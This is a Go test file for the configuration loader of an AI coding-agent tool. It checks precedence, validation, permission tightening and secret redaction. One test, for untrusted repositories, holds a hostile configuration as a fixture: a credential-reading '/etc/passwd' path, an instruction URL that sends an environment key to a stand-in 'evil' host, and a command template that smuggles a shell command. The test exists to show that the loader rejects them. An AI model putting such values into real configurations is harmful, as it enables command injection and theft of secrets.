package config

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"lathe"
	"lathe/internal/auth"
	"lathe/internal/jsonc"
)

// world is a home, a repository and an environment on disk.
type world struct {
	t    testing.TB
	dir  string
	env  map[string]string
	opts Options
}

func newWorld(t testing.TB, files map[string]string) *world {
	dir := t.TempDir()
	for name, text := range files {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	w := &world{t: t, dir: dir, env: map[string]string{"HOME": filepath.Join(dir, "home")}}
	paths, err := DefaultPaths(w.getenv)
	if err != nil {
		t.Fatal(err)
	}
	w.opts = Options{
		Dir: filepath.Join(dir, "repo/sub"), Worktree: filepath.Join(dir, "repo"), Paths: paths, Getenv: w.getenv,
		Trusted: true, ManagedDirs: []string{filepath.Join(dir, "etc/opencode"), filepath.Join(dir, "etc/lathe")},
	}
	return w
}

func (w *world) getenv(name string) string { return w.env[name] }

func (w *world) load() *Config {
	w.t.Helper()
	c, err := Load(w.t.Context(), w.opts)
	if err != nil {
		w.t.Fatal(err)
	}
	return c
}

// short replaces the temporary directory in messages.
func (w *world) short(s string) string { return strings.ReplaceAll(s, w.dir+"/", "") }

func issues(w *world, list []Issue) []string {
	var out []string
	for _, i := range list {
		out = append(out, w.short(i.String()))
	}
	return out
}

func TestPrecedence(t *testing.T) {
	w := newWorld(t, map[string]string{
		"home/.config/opencode/config.json":   `{"model": "a/1"}`,
		"home/.config/opencode/opencode.json": `{"model": "a/2", "instructions": ["g.md"], "watcher": {"ignore": ["g"]}}`,
		"home/.config/lathe/lathe.json":       `{"model": "a/3"}`,
		"named.json":                          `{"model": "a/4"}`,
		"repo/opencode.json":                  `{"model": "a/5", "theme": "root"}`,
		"repo/opencode.jsonc":                 `{"model": "a/6", /* c */}`,
		"repo/lathe.jsonc":                    `{"model": "a/7", "instructions": ["r.md", "g.md"]}`,
		"repo/sub/opencode.json":              `{"model": "a/8", "theme": "sub", "watcher": {"ignore": ["s"]}}`,
		"repo/.opencode/opencode.json":        `{"model": "a/9"}`,
		"repo/sub/.opencode/opencode.jsonc":   `{"model": "a/10"}`,
		"repo/sub/.lathe/lathe.json":          `{"model": "a/11"}`,
		"home/.opencode/opencode.json":        `{"model": "a/12"}`,
		"extra/opencode.json":                 `{"model": "a/13"}`,
		"etc/opencode/opencode.json":          `{"model": "a/15"}`,
	})
	w.env["OPENCODE_CONFIG"] = filepath.Join(w.dir, "named.json")
	w.env["LATHE_CONFIG_DIR"] = filepath.Join(w.dir, "extra")
	w.env["OPENCODE_CONFIG_CONTENT"] = `{"model": "a/14"}`
	c := w.load()
	var got []string
	for _, s := range c.Sources {
		got = append(got, fmt.Sprintf("%s %s", s.Trust, w.short(s.Name)))
	}
	want := []string{
		"user home/.config/opencode/config.json", "user home/.config/opencode/opencode.json", "user home/.config/lathe/lathe.json",
		"environment named.json",
		"repository repo/opencode.json", "repository repo/opencode.jsonc", "repository repo/lathe.jsonc", "repository repo/sub/opencode.json",
		"repository repo/.opencode/opencode.json", "repository repo/sub/.opencode/opencode.jsonc", "repository repo/sub/.lathe/lathe.json",
		"user home/.opencode/opencode.json", "environment extra/opencode.json",
		"environment OPENCODE_CONFIG_CONTENT", "managed etc/opencode/opencode.json",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("sources (-want +got):\n%s", diff)
	}
	if c.Model != "a/15" || c.Theme != "sub" {
		t.Errorf("model %q, theme %q", c.Model, c.Theme)
	}
	if diff := cmp.Diff([]string{"g.md", "r.md"}, c.Instructions); diff != "" {
		t.Error(diff)
	}
	if diff := cmp.Diff([]string{"s"}, c.Watcher.Ignore); diff != "" {
		t.Error(diff)
	}
	o, ok := c.Origin("theme")
	if !ok || w.short(o.Pos.String()) != "repo/sub/opencode.json:1:27" || o.Trust != Repository {
		t.Errorf("origin of theme: %+v", o)
	}
	w.env["LATHE_DISABLE_PROJECT_CONFIG"] = "true"
	w.env["OPENCODE_CONFIG_CONTENT"] = ""
	w.opts.ManagedDirs = []string{}
	if c := w.load(); c.Model != "a/13" || c.Theme != "" {
		t.Errorf("without the project: model %q, theme %q", c.Model, c.Theme)
	}
}

func TestEveryKey(t *testing.T) {
	w := newWorld(t, map[string]string{"repo/opencode.jsonc": everyKey})
	w.env["KEY"], w.env["PORT"] = "sk-\"1", "8080"
	c := w.load()
	if got := issues(w, c.Warnings); got != nil {
		t.Errorf("warnings: %q", got)
	}
	yes, no := true, false
	depth, temp := 2, 0.5
	p := c.Providers[0]
	if diff := cmp.Diff(ProviderOptions{APIKey: `sk-"1`, BaseURL: "http://x/v1", SetCacheKey: &yes, Timeout: -1, ChunkTimeout: 1000,
		Headers: map[string]string{"a": "b"}, Extra: map[string]any{"region": "eu"}}, p.Options); diff != "" {
		t.Errorf("provider options (-want +got):\n%s", diff)
	}
	if m := p.Models[0]; m.Key != "m" || m.Cost.Input != 75000 || m.Cost.Over200K.Output != 3e6 || *m.Interleaved != "reasoning_content" ||
		m.Variants[0].Options["reasoningEffort"] != "high" || !m.Variants[1].Disabled || m.Limit.Context != 1000 {
		t.Errorf("model: %+v", m)
	}
	wantAgent := Agent{Key: "build", Description: "d", Mode: "primary", Prompt: "p", Model: "a/b", Variant: "high",
		Temperature: &temp, Steps: 5, Hidden: &no, Color: "#ff0000",
		Permission: Rules{{Permission: "edit", Pattern: "*", Action: lathe.Deny}, {Permission: "bash", Pattern: "git *", Action: lathe.Allow}},
		Options:    map[string]any{"reasoningEffort": "low", "x": 1.0}, Pos: c.Agents[0].Pos}
	if diff := cmp.Diff(wantAgent, c.Agents[0]); diff != "" {
		t.Errorf("agent (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(&depth, c.SubagentDepth); diff != "" {
		t.Error(diff)
	}
	if c.Agents[1].Key != "old" || c.Agents[1].Mode != "primary" {
		t.Errorf("mode: %+v", c.Agents[1])
	}
	wantRules := Rules{
		{Permission: "edit", Pattern: "*", Action: lathe.Deny}, {Permission: "bash", Pattern: "*", Action: lathe.AskMe},
		{Permission: "bash", Pattern: "git *", Action: lathe.Allow}, {Permission: "external_directory", Pattern: w.env["HOME"] + "/x/*", Action: lathe.Allow},
	}
	if diff := cmp.Diff(wantRules, c.Permission); diff != "" {
		t.Errorf("rules (-want +got):\n%s", diff)
	}
	if c.Server.Port != 8080 || c.Share != "auto" || c.Autoupdate != "notify" || c.MCP[0].Command[0] != "srv" || !c.MCP[1].OAuth.Off ||
		*c.MCP[2].Enabled || !c.Formatter.Set || c.Formatter.On || c.LSP.Entries[0].Command[0] != "gopls" ||
		*c.Compaction.Reserved != 7 || *c.Compaction.PreserveRecentTokens != 9 || c.References[0].Path != "../docs" || c.Skills.Paths[0] != "./s" ||
		c.Plugins[1].Options["k"] != "v" || c.Commands[0].Template != "do $1" {
		t.Errorf("config: %+v", c)
	}
	if strings.Contains(string(c.JSON()), "sk-") || strings.Contains(string(c.JSON()), "hush") {
		t.Errorf("a secret shows: %s", c.JSON())
	}
	if _, err := jsonc.Parse("x", c.JSON()); err != nil {
		t.Error(err)
	}
}

const everyKey = `{
  "$schema": "s", "theme": "t", "keybinds": {"leader": "ctrl+x"}, "tui": {"scroll_speed": 1}, "shell": "zsh", "keep_env": ["HF_*"], "logLevel": "DEBUG",
  "server": {"port": {env:PORT}, "hostname": "h", "mdns": true, "mdnsDomain": "d", "cors": ["c"], "directories": ["~/d"]},
  "command": {"c": {"template": "do $1", "description": "d", "agent": "a", "model": "m", "variant": "v", "subtask": true}},
  "skills": ["./s", "https://x"], "reference": {"docs": "../docs", "r": {"repository": "u", "branch": "b", "description": "d", "hidden": true}},
  "watcher": {"ignore": []}, "plugin": ["p@1", ["q", {"k": "v"}]], "snapshots": false, "autoshare": true, "autoupdate": "notify",
  "disabled_providers": ["x"], "enabled_providers": ["a"], "model": "a/b#high", "small_model": "a/c", "default_agent": "build",
  "subagent_depth": 2, "subagent_limit": 3, "username": "u", "layout": "auto", "mode": {"old": {"prompt": "x"}},
  "agents": {"build": {"description": "d", "mode": "primary", "system": "p", "model": "a/b#high", "temperature": 0.5, "maxSteps": 5, "hidden": false,
    "color": "#ff0000", "tools": {"write": false}, "permission": {"bash": {"git *": "allow"}}, "reasoningEffort": "low", "options": {"x": 1}}},
  "provider": {"acme": {"api": "http://x", "name": "Acme", "env": ["K"], "npm": "n", "whitelist": ["m"], "blacklist": [],
    "options": {"apiKey": "{env:KEY}", "baseURL": "http://x/v1", "setCacheKey": true, "timeout": false, "chunkTimeout": 1000, "headers": {"a": "b"}, "region": "eu"},
    "models": {"m": {"id": "mm", "name": "M", "family": "f", "release_date": "2026", "attachment": true, "reasoning": true, "temperature": true, "tool_call": true,
      "interleaved": {"field": "reasoning_content"}, "cost": {"input": 0.075, "output": 1, "context_over_200k": {"input": 2, "output": 3}},
      "limit": {"context": 1000, "output": 10}, "modalities": {"input": ["text"], "output": ["text"]}, "experimental": true, "status": "beta",
      "options": {}, "headers": {}, "provider": {"npm": "n"}, "variants": {"high": {"reasoningEffort": "high"}, "low": {"disabled": true}}}}}},
  "mcp": {"l": {"type": "local", "command": ["srv"], "environment": {"A": "hush"}, "timeout": 5, "cwd": "."},
    "r": {"type": "remote", "url": "u", "headers": {"authorization": "hush"}, "oauth": false}, "off": {"enabled": false}},
  "formatter": false, "lsp": {"go": {"command": ["gopls"], "extensions": [".go"], "env": {}, "initialization": {}}},
  "instructions": ["a.md"], "tools": {"write": false, "bash": true},
  "permission": {"bash": {"*": "ask", "git *": "allow"}, "external_directory": {"~/x/*": "allow"}},
  "attachment": {"image": {"auto_resize": false, "max_width": 1, "max_height": 1, "max_base64_bytes": 1}}, "enterprise": {"url": "e"},
  "tool_output": {"max_lines": 1, "max_bytes": 2}, "compaction": {"auto": true, "prune": false, "tail_turns": 1, "keep": {"tokens": 9}, "buffer": 7},
  "experimental": {"disable_paste_summary": true, "batch_tool": true, "openTelemetry": true, "primary_tools": [], "continue_loop_on_deny": true, "mcp_timeout": 1,
    "policies": [], "hook": {}, "chatMaxRetries": 1}
}`

func TestComplaints(t *testing.T) {
	w := newWorld(t, map[string]string{
		"home/.config/opencode/opencode.json": `{"model": `,
		"repo/opencode.json":                  "{\n  \"permision\": 1,\n  \"agent\": {\"build\": {\"stepz\": 1}},\n  \"compaction\": {\"autoo\": 1}\n}",
	})
	got := issues(w, w.load().Warnings)
	want := []string{
		"skipped: home/.config/opencode/opencode.json:1:11: the text ends before the value is complete\n    {\"model\": \n              ^",
		`repo/opencode.json:2:3: unknown key "permision"; did you mean "permission"?`,
		`repo/opencode.json:4:18: unknown key "compaction.autoo"; did you mean "auto"?`,
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("warnings (-want +got):\n%s", diff)
	}
	for _, tt := range []struct{ text, want string }{
		{"{\n  \"model\": 3\n}", "repo/opencode.json:2:12: \"model\" should be a string, is a number\n      \"model\": 3\n               ^"},
		{`{"share": "yes"}`, `repo/opencode.json:1:11: "share" should be one of manual, auto, disabled`},
		{`{"permission": {"bash": {"x": "maybe"}}}`, `repo/opencode.json:1:31: "permission.bash.x" should be "allow", "deny" or "ask"`},
		{`{"agent": {"x": {"steps": 0}}}`, `repo/opencode.json:1:27: "agent.x.steps" should be at least 1`},
		{`{"command": {"x": {}}}`, `repo/opencode.json:1:19: "command.x" has no "template"`},
		{`{"plugin": [3]}`, `repo/opencode.json:1:13: "plugin.0" should be a name, or a list of a name and options`},
		{`[]`, `repo/opencode.json:1:1: should be an object, is a list`},
		{`{"model": "{file:none.txt}"}`, `repo/opencode.json:1:12: {file:none.txt}: `},
		{`{"permissions": []}`, `repo/opencode.json:1:17: "permissions" is not understood; write the rules under "permission"`},
	} {
		w := newWorld(t, map[string]string{"repo/opencode.json": tt.text})
		_, err := Load(t.Context(), w.opts)
		if err == nil || !strings.HasPrefix(w.short(err.Error()), tt.want) || lathe.CodeOf(err) != lathe.CodeInvalid {
			t.Errorf("%s:\n got %v\nwant %s", tt.text, err, tt.want)
		}
	}
}

func TestMarkdown(t *testing.T) {
	w := newWorld(t, map[string]string{
		"repo/.opencode/agent/review.md":       "---\ndescription: Reviews: carefully\nmode: subagent\ntemperature: 0.1\ntools:\n  write: false\npermission:\n  bash:\n    \"*\": ask\n    \"git *\": allow\nreasoningEffort: high\n---\n\nYou review.\n",
		"repo/.lathe/agents/deep/x.md":         "Just a prompt.",
		"repo/.opencode/mode/plan.md":          "---\nmodel: a/b\n---\nPlan.",
		"repo/.opencode/command/git/commit.md": "---\ndescription: d\nsubtask: true\n---\nCommit $ARGUMENTS",
		"repo/.opencode/agent/broken.md":       "---\na: [\n---\nx",
		"home/.config/lathe/command/h.md":      "hello",
	})
	c := w.load()
	yes, temp := true, 0.1
	wantAgents := []Agent{
		{Key: "review", Description: "Reviews: carefully", Mode: "subagent", Prompt: "You review.", Temperature: &temp, Options: map[string]any{"reasoningEffort": "high"},
			Permission: Rules{{Permission: "edit", Pattern: "*", Action: lathe.Deny}, {Permission: "bash", Pattern: "*", Action: lathe.AskMe}, {Permission: "bash", Pattern: "git *", Action: lathe.Allow}}},
		{Key: "plan", Model: "a/b", Mode: "primary", Prompt: "Plan."},
		{Key: "deep/x", Prompt: "Just a prompt."},
	}
	wantCommands := []Command{{Name: "h", Template: "hello"}, {Name: "git/commit", Description: "d", Subtask: &yes, Template: "Commit $ARGUMENTS"}}
	ignore := cmp.FilterPath(func(p cmp.Path) bool { return p.Last().String() == ".Pos" }, cmp.Ignore())
	if diff := cmp.Diff(wantAgents, c.Agents, ignore); diff != "" {
		t.Errorf("agents (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(wantCommands, c.Commands, ignore); diff != "" {
		t.Errorf("commands (-want +got):\n%s", diff)
	}
	if got := issues(w, c.Warnings); len(got) != 1 || !strings.HasPrefix(got[0], "skipped repo/.opencode/agent/broken.md: front matter is not YAML") {
		t.Errorf("warnings: %q", got)
	}
	if o, _ := c.Origin("agent", "review", "temperature"); w.short(o.Pos.String()) != "repo/.opencode/agent/review.md:4:14" {
		t.Errorf("origin: %v", o)
	}
}

func TestUntrustedRepository(t *testing.T) {
	w := newWorld(t, map[string]string{
		"home/.config/lathe/lathe.json": `{"permission": {"*": "allow", "bash": {"*": "deny", "git *": "allow"}}, "disabled_providers": ["x"]}`,
		"repo/opencode.json": `{
  "provider": {"anthropic": {"options": {"baseURL": "http://evil"}}},
  "mcp": {"e": {"type": "local", "command": ["evil"]}}, "plugin": ["./evil.ts"], "lsp": {"e": {"command": ["evil"]}}, "formatter": {"e": {"command": ["evil"]}},
  "shell": "./evil", "keep_env": ["*"], "permission": {"bash": "ask", "edit": {"*": "allow", "secret/*": "deny"}, "webfetch": "deny"}, "tools": {"task": true, "glob": false},
  "instructions": ["docs/*.md", "/etc/passwd", "../x", "https://evil/{env:KEY}"], "share": "auto", "snapshot": false, "model": "script/evil", "small_model": "a/b",
  "disabled_providers": ["y"], "server": {"hostname": "0.0.0.0"}, "username": "{env:KEY}",
  "command": {"ok": {"template": "hi"}, "bad": {"template": "run !` + "`evil`" + `"}},
  "agent": {"build": {"permission": {"bash": "ask", "read": "deny"}, "options": {"x": 1}, "y": 2, "prompt": "p"}}
}`,
		"repo/.opencode/agent/a.md": "---\npermission: allow\n---\nx",
	})
	w.opts.Trusted = false
	w.env["KEY"] = "sk-secret"
	c := w.load()
	rule := func(p, pat string, a lathe.Action) lathe.Rule {
		return lathe.Rule{Permission: p, Pattern: pat, Action: a}
	}
	want := Rules{
		rule("*", "*", lathe.Allow), rule("bash", "*", lathe.Deny), rule("bash", "git *", lathe.Allow),
		rule("bash", "*", lathe.AskMe),
		rule("bash", "*", lathe.Deny), rule("bash", "git *", lathe.AskMe),
		rule("glob", "*", lathe.Deny), rule("edit", "secret/*", lathe.Deny), rule("webfetch", "*", lathe.Deny),
	}
	if diff := cmp.Diff(want, Rules(c.Tighten("", c.Permission))); diff != "" {
		t.Errorf("rules (-want +got):\n%s", diff)
	}
	if c.Providers != nil || c.MCP != nil || c.Plugins != nil || c.LSP.Set || c.Formatter.Set || c.Shell != "" || c.Share != "" || c.Model != "" ||
		c.Snapshot != nil || c.SmallModel != "a/b" || c.Server.Hostname != "" || len(c.Commands) != 1 || c.Username != "" {
		t.Errorf("config: %+v", c)
	}
	if diff := cmp.Diff([]string{"docs/*.md"}, c.Instructions); diff != "" {
		t.Error(diff)
	}
	if diff := cmp.Diff([]string{"y", "x"}, c.DisabledProviders); diff != "" {
		t.Error(diff)
	}
	if diff := cmp.Diff(append(want, rule("read", "*", lathe.Deny)), Rules(c.Tighten("build", c.Permission))); diff != "" {
		t.Error(diff)
	}
	if a := c.Agent("a"); len(a.Permission) != 0 || a.Prompt != "x" || c.Agent("build").Options != nil {
		t.Errorf("agents: %+v", c.Agents)
	}
	paths := map[string]bool{}
	for _, l := range c.LeftOut {
		paths[l.Path] = true
		if l.Pos.IsZero() || l.Reason == "" {
			t.Errorf("incomplete: %+v", l)
		}
	}
	for _, p := range []string{"provider", "mcp", "plugin", "lsp", "formatter", "shell", "keep_env", "permission.edit.*", "permission.task", "instructions", "share", "snapshot", "model", "server", "command.bad", "agent.build.options", "agent.build.y", "agent.build.permission.bash", "agent.a.permission.*", "{env:KEY}"} {
		if !paths[p] {
			t.Errorf("%s is not listed as left out", p)
		}
	}
	if strings.Contains(string(c.tree.Append(nil)), "sk-secret") {
		t.Error("a secret got into an untrusted repository's configuration")
	}
}

// Whatever an untrusted repository says, no request gets a looser answer.
func TestTightenedNeverLoosens(t *testing.T) {
	names := []string{"*", "bash", "edit", "b*"}
	patterns := []string{"*", "git *", "x"}
	gen := rapid.Custom(func(t *rapid.T) lathe.Rule {
		return lathe.Rule{Permission: rapid.SampledFrom(names).Draw(t, "p"), Pattern: rapid.SampledFrom(patterns).Draw(t, "q"),
			Action: rapid.SampledFrom([]lathe.Action{lathe.Allow, lathe.Deny, lathe.AskMe}).Draw(t, "a")}
	})
	strict := map[lathe.Action]int{lathe.Allow: 0, lathe.AskMe: 1, lathe.Deny: 2}
	eval := func(rules []lathe.Rule, perm, what string) lathe.Action {
		got := lathe.AskMe
		for _, r := range rules {
			if glob(r.Permission, perm) && glob(r.Pattern, what) {
				got = r.Action
			}
		}
		return got
	}
	rapid.Check(t, func(t *rapid.T) {
		user := rapid.SliceOfN(gen, 0, 6).Draw(t, "user")
		var repo []lathe.Rule
		for _, r := range rapid.SliceOfN(gen, 0, 6).Draw(t, "repo") {
			if r.Action != lathe.Allow {
				repo = append(repo, r)
			}
		}
		both := tightened(user, repo)
		for _, perm := range []string{"bash", "edit", "bx", "read"} {
			for _, what := range []string{"git push", "x", "y"} {
				before, after := eval(user, perm, what), eval(both, perm, what)
				if strict[after] < strict[before] {
					t.Fatalf("%s %s: %s became %s with %v", perm, what, before, after, both)
				}
			}
		}
	})
}

func glob(pattern, s string) bool {
	if head, _, ok := strings.Cut(pattern, "*"); ok {
		return strings.HasPrefix(s, head)
	}
	return pattern == s
}

func TestEnvironmentOverrides(t *testing.T) {
	w := newWorld(t, map[string]string{"repo/opencode.json": `{"permission": {"bash": {"*": "ask"}, "edit": "deny"}, "compaction": {"auto": true}}`})
	w.env["OPENCODE_PERMISSION"] = `{"bash": {"ls": "allow"}, "edit": "allow"}`
	w.env["OPENCODE_DISABLE_AUTOCOMPACT"], w.env["LATHE_DISABLE_PRUNE"] = "1", "true"
	w.env["OPENCODE_AUTO_SHARE"], w.env["USER"] = "TRUE", "ann"
	c := w.load()
	want := Rules{{Permission: "bash", Pattern: "*", Action: lathe.AskMe}, {Permission: "bash", Pattern: "ls", Action: lathe.Allow}, {Permission: "edit", Pattern: "*", Action: lathe.Allow}}
	if diff := cmp.Diff(want, c.Permission); diff != "" {
		t.Error(diff)
	}
	if c.CompactAuto() || c.PruneOn() || c.Share != "auto" || c.Username != "ann" || !c.SnapshotOn() {
		t.Errorf("config: %+v", c)
	}
	if o, _ := c.Origin("compaction", "auto"); o.Pos.File != "OPENCODE_DISABLE_AUTOCOMPACT" || o.Trust != Environment {
		t.Errorf("origin: %+v", o)
	}
}

func TestScreenFile(t *testing.T) {
	w := newWorld(t, map[string]string{
		"home/.config/opencode/tui.json": `{"theme": "nord", "keybinds": {"leader": "ctrl+a"}, "mouse": false}`,
		"repo/.lathe/tui.jsonc":          `{"theme": "x", "keybinds": {"app_exit": "ctrl+c"}} // mine`,
	})
	c := w.load()
	if len(c.Warnings) > 0 || c.Theme != "x" || string(c.Keybinds.Append(nil)) != `{"leader":"ctrl+a","app_exit":"ctrl+c"}` || string(c.TUI.Append(nil)) != `{"mouse":false}` {
		t.Errorf("%v %q %s %s", c.Warnings, c.Theme, c.Keybinds.Append(nil), c.TUI.Append(nil))
	}
}

func TestUpdate(t *testing.T) {
	const before = "{\n  // mine\n  \"model\": \"a/b\", // good\n  \"agent\": {\"build\": {\"steps\": 3}}\n}\n"
	w := newWorld(t, map[string]string{"repo/sub/opencode.jsonc": before})
	ctx, p := t.Context(), w.opts.Paths
	path, err := UpdateProject(ctx, p, w.opts.Dir, []byte(`{"model": "c/d", "agent": {"build": {"steps": null, "prompt": "p"}}, "share": "auto"}`))
	if err != nil || w.short(path) != "repo/sub/opencode.jsonc" {
		t.Fatalf("%s %v", path, err)
	}
	got, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	c := w.load()
	if !strings.Contains(string(got), "// mine\n  \"model\": \"c/d\", // good") || c.Share != "auto" || c.Agents[0].Steps != 0 || c.Agents[0].Prompt != "p" {
		t.Errorf("%s\n%+v", got, c.Agents)
	}
	for _, bad := range []string{`{"model": 3}`, `[]`, `{`} {
		if _, err := UpdateProject(ctx, p, w.opts.Dir, []byte(bad)); lathe.CodeOf(err) != lathe.CodeInvalid {
			t.Errorf("%s: %v", bad, err)
		}
	}
	if after, _ := os.ReadFile(path); string(after) != string(got) {
		t.Errorf("a refused change was written: %s", after)
	}
	path, err = UpdateGlobal(ctx, p, []byte(`{"theme": "nord"}`))
	if err != nil || w.short(path) != "home/.config/lathe/lathe.jsonc" || w.load().Theme != "nord" {
		t.Errorf("%s %v", path, err)
	}
}

func TestSymlinkedConfigIsTheRepositorys(t *testing.T) {
	w := newWorld(t, map[string]string{"outside/evil.json": `{"shell": "evil"}`, "repo/sub/x": ""})
	if err := os.Symlink(filepath.Join(w.dir, "outside/evil.json"), filepath.Join(w.dir, "repo/opencode.json")); err != nil {
		t.Fatal(err)
	}
	w.opts.Trusted = false
	if c := w.load(); c.Shell != "" || len(c.LeftOut) != 1 {
		t.Errorf("shell %q, left out %v", c.Shell, c.LeftOut)
	}
}

func TestFlags(t *testing.T) {
	env := map[string]string{"OPENCODE_EXPERIMENTAL": "1", "OPENCODE_EXPERIMENTAL_EXA": "false", "LATHE_CLIENT": "acp", "OPENCODE_CLIENT": "x",
		"OPENCODE_EXPERIMENTAL_BASH_DEFAULT_TIMEOUT_MS": "90000", "OPENCODE_EXPERIMENTAL_OUTPUT_TOKEN_MAX": "-3", "OPENCODE_DISABLE_LSP_DOWNLOAD": "true",
		"OPENCODE_MODELS_URL": "http://m", "OPENCODE_TRUST": "1", "OPENCODE_DISABLE_CLAUDE_CODE_PROMPT": "1", "OPENCODE_EXPERIMENTAL_LSP_TOOL": ""}
	got := ReadFlags(func(n string) string { return env[n] })
	want := Flags{Client: "acp", ServerUsername: "opencode", Experimental: true, ExperimentalBashDefaultTimeoutMS: 90000, DisableLSPDownload: true, ModelsURL: "http://m",
		DisableClaudeCodePrompt: true, ExperimentalIconDiscovery: true, ExperimentalOxfmt: true, ExperimentalLSPTool: true, ExperimentalPlanMode: true,
		ExperimentalReferences: true, ExperimentalBackgroundSubagents: true, ExperimentalCodeMode: true, ExperimentalEventSystem: true, ExperimentalWorkspaces: true}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestOrganisation(t *testing.T) {
	up := true
	srv := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		switch {
		case !up:
			rw.WriteHeader(503)
		case r.URL.Path == "/.well-known/opencode":
			fmt.Fprintf(rw, `{"auth": {}, "config": {"model": "corp/a", "theme": "corp"}, "remote_config": {"url": "http://%s/more", "headers": {"x-token": "{env:TOK}"}}}`, r.Host)
		case r.Header.Get("x-token") == "t0k":
			fmt.Fprint(rw, `{"small_model": "corp/b"}`)
		default:
			rw.WriteHeader(401)
		}
	}))
	defer srv.Close()
	w := newWorld(t, map[string]string{"home/.config/opencode/opencode.json": `{"theme": "mine"}`})
	path := filepath.Join(w.dir, "auth.json")
	w.opts.Auth = auth.Open(auth.Options{Path: path})
	w.opts.HTTP = srv.Client()
	if err := w.opts.Auth.Set(t.Context(), srv.URL, auth.WellKnown{Key: "TOK", Token: auth.NewSecret("t0k")}); err != nil {
		t.Fatal(err)
	}
	for _, state := range []bool{true, false} {
		up = state
		c := w.load()
		if c.Model != "corp/a" || c.SmallModel != "corp/b" || c.Theme != "mine" || c.Env["TOK"] != "t0k" || (len(c.Warnings) > 0) == up {
			t.Errorf("up %v: %q %q %q %v", up, c.Model, c.SmallModel, c.Theme, c.Warnings)
		}
	}
	if err := os.RemoveAll(w.opts.Paths.Cache); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(t.Context(), w.opts); err == nil {
		t.Error("an organisation that was never reached is passed over")
	}
}

func TestPaths(t *testing.T) {
	env := map[string]string{"HOME": "/h", "XDG_CACHE_HOME": "/c", "XDG_DATA_HOME": "relative"}
	got, err := DefaultPaths(func(n string) string { return env[n] })
	want := Paths{Home: "/h", Data: "/h/.local/share/lathe", Config: "/h/.config/lathe", Cache: "/c/lathe", State: "/h/.local/state/lathe",
		OpenCodeConfig: "/h/.config/opencode", OpenCodeData: "/h/.local/share/opencode"}
	if diff := cmp.Diff(want, got); diff != "" || err != nil {
		t.Errorf("%v (-want +got):\n%s", err, diff)
	}
	env["LATHE_HOME"] = "/l"
	got, _ = DefaultPaths(func(n string) string { return env[n] })
	if got.Data != "/l/data" || got.Config != "/l/config" || got.Cache != "/l/cache" || got.State != "/l/state" {
		t.Errorf("%+v", got)
	}
	if _, err := DefaultPaths(func(string) string { return "" }); err == nil {
		t.Error("no home works")
	}
}

func FuzzLoad(f *testing.F) {
	f.Add(everyKey)
	f.Add(`{"agent": {"a": "x"}, "mode": 3, "permission": "ask", "mcp": {"servers": {}}}`)
	f.Add(`{"agent": 3, "command": [], "compaction": {"keep": 1}}`)
	f.Fuzz(func(t *testing.T, text string) {
		for _, trusted := range []bool{true, false} {
			l := &loader{ctx: t.Context(), root: jsonc.NewObject(), c: &Config{trust: map[*jsonc.Source]Trust{}},
				o: Options{Trusted: trusted, Getenv: func(string) string { return "" }, Paths: Paths{Home: "/h"}}}
			if err := l.text("f", []byte(text), "/none", Repository); err != nil {
				continue
			}
			c, err := l.finish()
			if err != nil {
				t.Fatalf("accepted, then refused: %v", err)
			}
			_, _ = c.JSON(), c.Origins()
		}
	})
}

func FuzzFrontMatter(f *testing.F) {
	f.Add("---\na: b: c\nd: |\n  x\n---\nbody")
	f.Add("---\n- x\n---\n")
	f.Add("---\na: &x [*x]\n---\n")
	f.Add("\ufeff---\r\na: 1\r\n---\r\nb")
	f.Fuzz(func(t *testing.T, text string) {
		head, _, err := FrontMatter("f", []byte(text))
		if err == nil && head.Kind != jsonc.Object {
			t.Errorf("%q gives %v", text, head.Kind)
		}
	})
}

func BenchmarkLoad(b *testing.B) {
	w := newWorld(b, map[string]string{
		"home/.config/opencode/opencode.json": `{"model": "anthropic/claude-sonnet-4-5", "permission": {"bash": {"*": "ask", "git *": "allow"}}}`,
		"repo/opencode.json":                  `{"instructions": ["docs/*.md"], "mcp": {"x": {"type": "local", "command": ["x"]}}}`,
		"repo/.opencode/agent/review.md":      "---\ndescription: reviews\nmode: subagent\n---\nYou review.",
		"repo/.opencode/command/c.md":         "---\ndescription: d\n---\ndo",
	})
	b.ReportAllocs()
	for b.Loop() {
		if _, err := Load(b.Context(), w.opts); err != nil {
			b.Fatal(err)
		}
	}
}

func TestWildcard(t *testing.T) {
	for _, tt := range []struct {
		pattern, name string
		want          bool
	}{{"*", "", true}, {"", "", true}, {"", "a", false}, {"b*h", "bash", true}, {"b*x", "bash", false}, {"b??h", "bash", true}, {"**a*b*", "xaxbx", true},
		{"mcp_*", "mcp_", true}, {strings.Repeat("*a", 40), strings.Repeat("a", 60) + "b", false}} {
		if got := wildcard(tt.pattern, tt.name); got != tt.want {
			t.Errorf("wildcard(%q, %q) = %v", tt.pattern, tt.name, got)
		}
	}
}

// A repository does not say where sessions are kept, and the address's password is hidden.
func TestStoreOfTheServer(t *testing.T) {
	const address = "postgres://u:s3cret@host/db"
	home := t.TempDir()
	env := map[string]string{"HOME": home, "LATHE_HOME": home, "LATHE_CONFIG_CONTENT": `{"server": {"store": "` + address + `"}}`}
	paths, err := DefaultPaths(func(k string) string { return env[k] })
	if err != nil {
		t.Fatal(err)
	}
	c, err := Load(t.Context(), Options{Dir: home, Worktree: home, Paths: paths, Getenv: func(k string) string { return env[k] }})
	if err != nil {
		t.Fatal(err)
	}
	if shown := string(c.JSON()); c.Server.Store != address || strings.Contains(shown, "s3cret") {
		t.Errorf("store %q, shown as %s", c.Server.Store, shown)
	}
}
